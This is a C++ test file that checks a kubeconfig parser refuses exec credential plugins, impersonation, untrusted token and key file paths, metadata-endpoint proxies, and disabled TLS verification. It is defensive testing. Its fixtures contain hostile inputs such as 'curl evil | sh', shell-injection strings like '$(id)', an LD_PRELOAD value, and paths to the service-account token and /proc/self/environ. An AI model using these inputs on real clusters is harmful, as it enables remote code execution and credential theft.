// Kubeconfigs that would run programs, read files or act as somebody else: S01, S05, S06 and S07 of reliability's
// security plan. All of it is refused by name, whoever wrote the file, or a stranger at least.
#include <kcontrol/auth/kubeconfig.hpp>
#include <kcontrol/testing/manual_environment.hpp>

#include <doctest/doctest.h>

using namespace kcontrol;
using namespace kcontrol::auth;

namespace {

std::string file_with(const std::string& cluster, const std::string& user) {
    return "current-context: c\nclusters: [{name: k, cluster: {" + cluster + "}}]\nusers: [{name: u, user: {" + user +
           "}}]\ncontexts: [{name: c, context: {cluster: k, user: u}}]\n";
}

/// Why it is refused; "accepted" if it is not.
std::string refusal(const std::string& text, trust level) {
    testing::manual_environment env;
    for (const char* path : {"/var/run/secrets/kubernetes.io/serviceaccount/token", "/etc/kube/config"}) {
        env.files[path] = "CANARY";
    }
    const auto file = kubeconfig::parse(text, "/etc/kube/config", level);
    const auto config = file ? file->resolve(env) : result<cluster_config>(file.error());
    if (config) return "accepted";
    CHECK(config.error() == errc::invalid_config);
    CHECK(config.error().what().find("CANARY") == std::string::npos);
    return config.error().message();
}

bool begins(const std::string& text, std::string_view what) {
    return text.find("/etc/kube/config: " + std::string(what)) == 0;
}

}  // namespace

TEST_CASE("S06 a program that gives credentials is never run, however it is written") {
    for (const char* exec :
         {"exec: {apiVersion: client.authentication.k8s.io/v1, command: aws, args: [eks, get-token]}",
          "exec: {apiVersion: client.authentication.k8s.io/v1beta1, command: ./helper}",
          "exec: {apiVersion: client.authentication.k8s.io/v1alpha1, command: ../../bin/sh}",
          "exec: {command: /bin/sh, args: [-c, 'curl evil | sh; echo CANARY']}",
          "exec: {command: sh, args: ['$IFS', '`id`', '$(id)', 'a;b', \"'\", '\"']}",
          "exec: {command: x, env: [{name: LD_PRELOAD, value: CANARY}]}",
          "exec: {command: x, installHint: \"\\e[31mCANARY\\a\"}", "exec: {command: x, interactiveMode: Always}",
          "exec: {command: x, provideClusterInfo: true}", "exec: {}", "exec: sh", "exec: [sh]",
          "token: CANARY, exec: {command: x}", "auth-provider: {name: oidc, config: {id-token: CANARY}}",
          "auth-provider: {name: gcp, config: {cmd-path: /bin/sh, cmd-args: -c id}}", "auth-provider: {}"}) {
        CAPTURE(std::string(exec));
        for (const auto level : {trust::trusted, trust::untrusted}) {
            const auto why = refusal(file_with("server: https://x", exec), level);
            const bool named = begins(why, "user \"u\": exec: not supported yet: use") ||
                               begins(why, "user \"u\": auth-provider: not supported yet: use");
            CHECK_MESSAGE(named, why);
        }
    }
}

TEST_CASE("S07 nobody acts as himself where somebody else was meant") {
    for (const char* user : {"as: root", "as: ''", "as: \"\"", "as: ' '", "as: '', as-groups: ['system:masters']",
                             "as-groups: ['system:masters']", "as-groups: []", "as-groups: ['']", "as-uid: ''",
                             "as-uid: '7'", "as: root, as-groups: [a], as-uid: '7', as-user-extra: {a: [b]}",
                             "as-user-extra: {scopes: [view]}", "as-user-extra: {}", "as: {}", "as: 7"}) {
        CAPTURE(std::string(user));
        for (const auto level : {trust::trusted, trust::untrusted}) {
            const auto why = refusal(file_with("server: https://x", std::string("token: CANARY, ") + user), level);
            CHECK_MESSAGE(begins(why, "user \"u\": as"), why);
            CHECK_MESSAGE(why.find("impersonation is not supported yet: remove it") != std::string::npos, why);
        }
    }
    CHECK(refusal(file_with("server: https://x", "token: CANARY, as: null"), trust::untrusted) == "accepted");
}

TEST_CASE("S05 a stranger's kubeconfig names no file and no way round") {
    struct row {
        const char* cluster;
        const char* user;
        const char* begin;
    };
    // The first one is how the pod's own token would go to a server of the author's choice.
    for (const auto& r :
         {row{"server: https://evil", "tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token",
              "user \"u\": tokenFile: an untrusted"},
          row{"server: https://evil", "token: a, tokenFile: ../../proc/self/environ",
              "user \"u\": tokenFile: an untrusted"},
          row{"server: https://evil", "client-certificate: /etc/kube/config, client-key: /etc/kube/config",
              "user \"u\": client-certificate: an untrusted"},
          row{"server: https://evil", "client-certificate-data: QQ==, client-key: /etc/kube/config",
              "user \"u\": client-key: an untrusted"},
          row{"server: https://evil, certificate-authority: /etc/kube/config", "",
              "cluster \"k\": certificate-authority: an untrusted"},
          row{"server: https://evil, certificate-authority: /etc/kube/config, certificate-authority-data: QQ==", "",
              "cluster \"k\": certificate-authority: an untrusted"},
          row{"server: https://x, proxy-url: 'http://169.254.169.254'", "", "cluster \"k\": proxy-url: "},
          row{"server: https://x, proxy-url: 'socks5://evil:1080'", "", "cluster \"k\": proxy-url: "},
          row{"server: https://x, insecure-skip-tls-verify: true", "", "cluster \"k\": insecure-skip-tls-verify: "},
          row{"server: http://evil", "token: CANARY", "server http://evil:80 is plain http"},
          row{"server: 'file:///etc/passwd'", "", "cluster \"k\": server: "},
          row{"server: 'unix:///var/run/docker.sock'", "", "cluster \"k\": server: "},
          row{"server: https://x", "username: a, password: CANARY", "user \"u\": username: "}}) {
        CAPTURE(std::string(r.cluster) + " " + r.user);
        const auto why = refusal(file_with(r.cluster, r.user), trust::untrusted);
        CHECK_MESSAGE(begins(why, r.begin), why);
    }
}

TEST_CASE("S01 certificates that are not verified, or an authority that is none, are errors of the configuration") {
    const auto cluster = [](const std::string& fields) {
        return refusal(file_with("server: https://x, " + fields, ""), trust::trusted);
    };
    CHECK(begins(cluster("insecure-skip-tls-verify: true, certificate-authority-data: QQ=="),
                 "cluster \"k\": insecure-skip-tls-verify: certificates are always verified"));
    CHECK(begins(cluster("insecure-skip-tls-verify: true, certificate-authority: /etc/kube/config"),
                 "cluster \"k\": insecure-skip-tls-verify: "));
    CHECK(begins(cluster("certificate-authority-data: ' '"), "cluster \"k\": certificate-authority-data: empty"));
    CHECK(begins(cluster("certificate-authority-data: \"\\n\""), "cluster \"k\": certificate-authority-data: empty"));
    CHECK(begins(cluster("certificate-authority-data: '-----BEGIN CERTIFICATE-----'"),
                 "cluster \"k\": certificate-authority-data: not base64"));
    CHECK(cluster("insecure-skip-tls-verify: 'true'").find("insecure-skip-tls-verify") != std::string::npos);
    // Text that is no certificate is refused when the transport is made (tls_test.cpp).
    CHECK(cluster("certificate-authority-data: QQ==") == "accepted");
}
